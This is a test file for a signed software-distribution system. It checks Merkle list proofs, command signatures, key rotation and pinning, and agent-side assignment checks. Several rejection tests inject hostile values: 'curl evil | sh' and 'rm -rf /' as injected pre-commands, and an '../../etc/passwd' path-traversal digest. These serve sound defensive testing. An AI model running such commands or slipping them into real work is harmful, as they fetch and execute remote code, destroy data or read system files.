// The trust primitives (DESIGN §12) on their own: Merkle lists, signed commands, what an agent
// checks in an assignment, and the master key's pinning and rotation.
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { Tickets } from '../src/alerts/tickets.ts';
import type { Logger } from '../src/common/log.ts';
import { PinnedKey } from '../src/common/pinned-key.ts';
import type { Config } from '../src/master/config.ts';
import { Plans } from '../src/master/plans.ts';
import type { RelayRegistry } from '../src/master/relays.ts';
import { commandSignedNow, packageSignedNow, renewedAuthority } from '../src/master/resign.ts';
import { authorityOf, checkAssignment, commandProblem, signCommand } from '../src/protocol/command.ts';
import { generateSigningKey, signPackage, verifyPackage } from '../src/protocol/crypto.ts';
import { fingerprint, rotationStatement, trustedKeys } from '../src/protocol/keys.ts';
import { canonicalJson, inList, ListTree, verifyCanonical } from '../src/protocol/signing.ts';
import type { Assignment, DistributionCommand } from '../src/protocol/types.ts';
import { compareVersions } from '../src/protocol/versions.ts';
import { openStore } from '../src/store/index.ts';
import { tempDir } from './helpers.ts';

const master = generateSigningKey();
const attacker = generateSigningKey();
const pkg = { name: 'pos-app', version: '2.4.1', digest: `sha256:${'b'.repeat(64)}`, size: 10, signature: 's' };
const base: DistributionCommand = {
  commandId: 'c-1',
  seq: 1,
  jobId: 'j-1',
  relayId: 'relay-a',
  kind: 'distribute',
  packages: [pkg],
  distributionList: ['pos-1', 'pos-2', 'pos-3'],
  params: { timeoutSec: 60 },
  issuedAt: '2026-11-26T10:00:00.000Z',
  issuedBy: 'admin',
};
const cmd = signCommand(master.privatePem, base, '2099-01-01T00:00:00.000Z');
const assignment = (c: DistributionCommand, deviceId: string, over: Partial<Assignment> = {}): Assignment => ({
  assignmentId: 'a',
  jobId: c.jobId,
  commandId: c.commandId,
  attempt: 1,
  kind: c.kind,
  packages: c.packages,
  params: c.params,
  authority: authorityOf(c)!,
  proof: new ListTree(c.distributionList).proof(deviceId) ?? [],
  ...over,
});

describe('Merkle distribution lists', () => {
  it('proves membership with log2 n hashes, for any list size, and nothing else', () => {
    for (const n of [1, 2, 3, 7, 10_000]) {
      const ids = Array.from({ length: n }, (_, i) => `pos-${i}`);
      const tree = new ListTree(ids);
      for (const id of [ids[0], ids[n - 1], ids[Math.floor(n / 2)]]) {
        const proof = tree.proof(id)!;
        expect(proof.length).toBeLessThanOrEqual(Math.ceil(Math.log2(n)));
        expect(inList(tree.root, id, proof)).toBe(true);
      }
      expect(tree.proof('intruder')).toBeUndefined();
      expect(inList(tree.root, 'intruder', tree.proof(ids[0])!)).toBe(false);
    }
  });
  it('does not depend on the order of the list', () => {
    expect(new ListTree(['b', 'a', 'c']).root).toBe(new ListTree(['c', 'b', 'a']).root);
    expect(canonicalJson({ b: 1, a: [{ d: 2, c: undefined }] })).toBe('{"a":[{"d":2}],"b":1}');
  });
});

describe('signed commands at the relay', () => {
  it('takes a whole command signed by its master for itself, and nothing changed', () => {
    expect(commandProblem([master.publicPem], cmd, 'relay-a')).toBeUndefined();
    expect(commandProblem([attacker.publicPem], cmd, 'relay-a')).toMatch(/does not verify/);
    expect(commandProblem([master.publicPem], { ...cmd, params: { preCommand: 'curl evil | sh' } }, 'relay-a')).toMatch(
      /does not verify/,
    );
    expect(
      commandProblem([master.publicPem], { ...cmd, distributionList: [...cmd.distributionList, 'pos-9'] }, 'relay-a'),
    ).toMatch(/not the one the master signed/);
    expect(commandProblem([master.publicPem], cmd, 'relay-b')).toMatch(/for relay relay-a/);
    expect(commandProblem([master.publicPem], { ...cmd, signature: undefined }, 'relay-a')).toMatch(/not signed/);
    const old = signCommand(master.privatePem, base, '2020-01-01T00:00:00.000Z');
    expect(commandProblem([master.publicPem], old, 'relay-a')).toMatch(/expired/);
  });
});

describe('signed again by the key in force, after a rotation', () => {
  const next = generateSigningKey();
  const keys = { privatePem: next.privatePem, ownKeys: [master.publicPem, next.publicPem] };
  const fields = { name: 'pos-app', version: '2.4.1', digest: `sha256:${'b'.repeat(64)}`, size: 10 };
  const signedPkg = { ...fields, signature: signPackage(master.privatePem, fields) };
  const earlier = signCommand(master.privatePem, { ...base, packages: [signedPkg] }, '2099-01-01T00:00:00.000Z');

  it('a command and its packages signed by an earlier key: whole for a relay that trusts only the new one', () => {
    expect(commandProblem([next.publicPem], earlier, 'relay-a')).toMatch(/does not verify/);
    const now = commandSignedNow(keys, earlier);
    expect(commandProblem([next.publicPem], now, 'relay-a')).toBeUndefined();
    expect(verifyPackage([next.publicPem], fields, now.packages[0].signature)).toBe(true);
    expect({ ...now, signature: '', packages: [] }).toEqual({ ...earlier, signature: '', packages: [] });
    const current = signCommand(next.privatePem, base, '2099-01-01T00:00:00.000Z');
    expect(commandSignedNow(keys, current)).toBe(current);
  });

  it('vouches for nothing its own keys did not sign, nor for a list changed beside its signed root', () => {
    const forged = signCommand(attacker.privatePem, base, '2099-01-01T00:00:00.000Z');
    expect(commandSignedNow(keys, forged)).toBe(forged);
    const moreDevices = { ...earlier, distributionList: [...earlier.distributionList, 'pos-9'] };
    expect(commandProblem([next.publicPem], commandSignedNow(keys, moreDevices), 'relay-a')).toMatch(
      /not the one the master signed/,
    );
    const otherContent = { ...signedPkg, digest: `sha256:${'e'.repeat(64)}` };
    expect(packageSignedNow(keys, otherContent)).toBe(otherContent);
  });

  it('renews a command unchanged but for its times and its packages signed now, and only one its own keys signed', () => {
    const renewed = renewedAuthority(keys, earlier, new Date('2100-01-01T00:00:00Z'))!;
    expect(verifyCanonical([next.publicPem], renewed.header, renewed.signature)).toBe(true);
    // An endpoint enrolled since the rotation trusts the new key only: the packages too.
    expect(verifyPackage([next.publicPem], fields, renewed.header.packages[0].signature)).toBe(true);
    expect({ ...renewed.header, issuedAt: '', expiresAt: '', packages: [] }).toEqual({
      ...authorityOf(earlier)!.header,
      issuedAt: '',
      expiresAt: '',
      packages: [],
    });
    expect(renewed.header.packages.map(({ signature, ...f }) => f)).toEqual([fields]);
    expect(renewed.header.expiresAt).toBe('2100-01-31T00:00:00.000Z');
    expect(renewedAuthority(keys, { ...earlier, params: { preCommand: 'curl evil | sh' } })).toBeUndefined();
    expect(renewedAuthority(keys, signCommand(attacker.privatePem, base, '2099-01-01T00:00:00.000Z'))).toBeUndefined();
    // A list changed beside the command: the renewed header keeps the root the master signed.
    const moreDevices = { ...earlier, distributionList: [...earlier.distributionList, 'pos-9'] };
    expect(renewedAuthority(keys, moreDevices)?.header.listRoot).toBe(earlier.listRoot);
  });

  it('a renewal asked for only because an earlier key signed it keeps the command its times', () => {
    // A day before its expiry (a job's deadline): signed by the key in force, never lengthened.
    const renewed = renewedAuthority(keys, earlier, new Date('2098-12-31T00:00:00Z'))!;
    expect(verifyCanonical([next.publicPem], renewed.header, renewed.signature)).toBe(true);
    expect(renewed.header).toMatchObject({ issuedAt: earlier.issuedAt, expiresAt: '2099-01-01T00:00:00.000Z' });
    // Within a minute of it, as good as expired: new times, as the relay asks then.
    const late = renewedAuthority(keys, earlier, new Date('2098-12-31T23:59:30Z'))!;
    expect(late.header.expiresAt).toBe('2099-01-30T23:59:30.000Z');
  });
});

describe('what an agent checks before it downloads anything', () => {
  const keys = [master.publicPem];
  it('installs exactly the signed packages and parameters for a device on the signed list', () => {
    expect(checkAssignment(assignment(cmd, 'pos-2'), 'pos-2', keys)).toEqual({
      ok: true,
      packages: cmd.packages,
      params: cmd.params,
    });
  });
  it('refuses a key swap, injected parameters, another device, a traversal digest and an expired command', () => {
    const forged = signCommand(attacker.privatePem, base, '2099-01-01T00:00:00.000Z');
    expect(checkAssignment(assignment(forged, 'pos-1'), 'pos-1', keys)).toMatchObject({
      ok: false,
      reason: /not signed by the master/,
    });
    const injected = assignment(cmd, 'pos-1', { params: { ...cmd.params, preCommand: 'rm -rf /' } });
    expect(checkAssignment(injected, 'pos-1', keys)).toMatchObject({
      ok: false,
      reason: /differ from what the master signed/,
    });
    expect(checkAssignment(assignment(cmd, 'pos-1'), 'pos-9', keys)).toMatchObject({
      ok: false,
      reason: /pos-9 is not on the distribution list/,
    });
    const traversal = assignment(cmd, 'pos-1', { packages: [{ ...pkg, digest: 'sha256:../../etc/passwd' }] });
    expect(checkAssignment(traversal, 'pos-1', keys).ok).toBe(false);
    const header = { ...authorityOf(cmd)!.header, packages: [{ ...pkg, digest: 'sha256:../../etc/passwd' }] };
    expect(
      checkAssignment(assignment(cmd, 'pos-1', { authority: { header, signature: cmd.signature! } }), 'pos-1', keys),
    ).toMatchObject({
      ok: false,
      reason: /no well-formed signed command header/,
    });
    // Headers too deep or of the wrong shape are refused before anything is hashed or verified.
    let deep: unknown = 'x';
    for (let i = 0; i < 100_000; i++) deep = [deep];
    for (const bad of [
      { ...authorityOf(cmd)!.header, params: { preCommand: deep } },
      { ...authorityOf(cmd)!.header, packages: [{ ...pkg, name: { nested: deep } }] },
      { ...authorityOf(cmd)!.header, listSize: '3' },
      [authorityOf(cmd)!.header],
      null,
    ])
      expect(
        checkAssignment(
          assignment(cmd, 'pos-1', { authority: { header: bad as never, signature: cmd.signature! } }),
          'pos-1',
          keys,
        ),
      ).toMatchObject({ ok: false, reason: /no well-formed signed command header/ });
    const old = signCommand(master.privatePem, base, '2020-01-01T00:00:00.000Z');
    expect(checkAssignment(assignment(old, 'pos-1'), 'pos-1', keys)).toMatchObject({
      ok: false,
      failureType: 'EXPIRED',
    });
  });
  it('a redistribution narrows the original: same header, a device of its list, nothing else', () => {
    const redo: DistributionCommand = {
      ...base,
      commandId: 'r-1',
      kind: 'redistribute',
      distributionList: ['pos-3'],
      original: authorityOf(cmd),
    };
    const a = assignment(redo, 'pos-3', { proof: new ListTree(cmd.distributionList).proof('pos-3')! });
    expect(checkAssignment(a, 'pos-3', keys).ok).toBe(true);
    // A relay cannot widen it: a device not on the original's list has no proof.
    expect(checkAssignment({ ...a, proof: [] }, 'pos-7', keys).ok).toBe(false);
    expect(checkAssignment({ ...a, params: { preCommand: 'x' } }, 'pos-3', keys).ok).toBe(false);
  });
});

describe('the master key: pinned, rotated only by a statement the pinned key signed', () => {
  it('follows a signed rotation and refuses a key that arrives without one', () => {
    const next = generateSigningKey();
    const rotation = rotationStatement(master.privatePem, master.publicPem, next.publicPem);
    expect(trustedKeys(master.publicPem, next.publicPem, [rotation])).toEqual([master.publicPem, next.publicPem]);
    expect(() => trustedKeys(master.publicPem, attacker.publicPem, [])).toThrow(
      /without a rotation statement signed by the pinned key/,
    );
    const forgedRotation = rotationStatement(attacker.privatePem, master.publicPem, attacker.publicPem);
    expect(() => trustedKeys(master.publicPem, attacker.publicPem, [forgedRotation])).toThrow(/key changed/);
  });
  it('pins at the first enrollment, or the key --master-key names', async () => {
    const key = new PinnedKey(tempDir('pin'));
    await key.accept(master.publicPem);
    await expect(key.accept(attacker.publicPem)).rejects.toThrow(/key changed/);
    expect(new PinnedKey(key['dataDir' as never]).keys).toEqual([master.publicPem]);
    const strict = new PinnedKey(tempDir('pin2'), fingerprint(master.publicPem));
    await expect(strict.accept(attacker.publicPem)).rejects.toThrow(/not SHA256:.* as --master-key says/);
    await strict.accept(master.publicPem);
  });
  it('orders versions part by part', () => {
    expect(compareVersions('2.10.0', '2.9.1')).toBe(1);
    expect(compareVersions('2.4.1', '2.5.0')).toBe(-1);
    expect(compareVersions('1.0.0', '1.0.0')).toBe(0);
  });
});

describe("a relay's word that a failed job is settled", () => {
  it("closes no ticket unless the master's own record shows every target not installed on a newer version", async () => {
    const store = await openStore(join(tempDir('settled'), 'db.sqlite'));
    const db = store.db;
    const at = '2026-11-29T00:00:00.000Z';
    await db
      .insertInto('jobs')
      .values({
        id: 'j-1',
        packages: JSON.stringify([{ name: 'p', version: '1.0.0' }]),
        params: '{}',
        created_at: at,
        created_by: 'admin',
      })
      .execute();
    await db
      .insertInto('targets')
      .values(
        ['e1', 'e2'].map((d) => ({
          ...{ job_id: 'j-1', device_id: d, relay_id: 'r', state: 'failed', attempt: 1 },
          ...{ failure_type: 'INSTALL_FAILED', error: 'exit 3', updated_at: at, attestation: null },
        })),
      )
      .execute();
    await db
      .insertInto('tickets')
      .values({
        ...{ id: 't-1', device_id: 'e1', failure_type: 'INSTALL_FAILED', state: 'resolved', center_id: null },
        ...{ location: null, alert_ids: '[]', jobs: '["j-1"]', summary: 's', created_at: at, updated_at: at },
        ...{ mail_attempts: 0, mail_error: null, resolve_key: 'k' },
      })
      .execute();
    await db
      .insertInto('failed_distributions')
      .values({
        ...{ relay_id: 'r', job_id: 'j-1', failure_type: 'INSTALL_FAILED', first_seen: at, last_seen: at },
        ...{ alert_count: 2, ticket_id: 't-1', state: 'open' },
      })
      .execute();
    // A relay that says every target moved on, whatever is true.
    const liar = {
      adminClient: async () => ({
        post: async () => ({ plans: [], skipped: [{ jobId: 'j-1', reason: 'moved on, it says', settled: true }] }),
      }),
    } as unknown as RelayRegistry;
    const quiet = { info() {}, warn() {}, error() {} } as unknown as Logger;
    const cfg = { planOnTicketResolve: true, autoApprove: false } as Config['redistribution'];
    const plans = new Plans(db, liar, new Tickets(db), cfg, quiet);
    const state = async () =>
      (
        await db
          .selectFrom('failed_distributions')
          .select('state')
          .where('job_id', '=', 'j-1')
          .executeTakeFirstOrThrow()
      ).state;
    const runs = (d: string, version: string) =>
      db.insertInto('device_packages').values({ device_id: d, name: 'p', version, state: 'attested', at }).execute();
    try {
      expect((await plans.request('r', 'j-1')).skipped).toMatchObject([{ jobId: 'j-1', why: 'moved on, it says' }]);
      expect(await state()).toBe('open'); // nothing on record
      await runs('e1', '1.1.0');
      await runs('e2', '0.9.0'); // an older one is no reason
      await plans.request('r', 'j-1');
      expect(await state()).toBe('open');
      await db.updateTable('device_packages').set({ version: '2.0.0' }).where('device_id', '=', 'e2').execute();
      await plans.request('r', 'j-1');
      expect(await state()).toBe('resolved');
    } finally {
      await store.close();
    }
  });
});
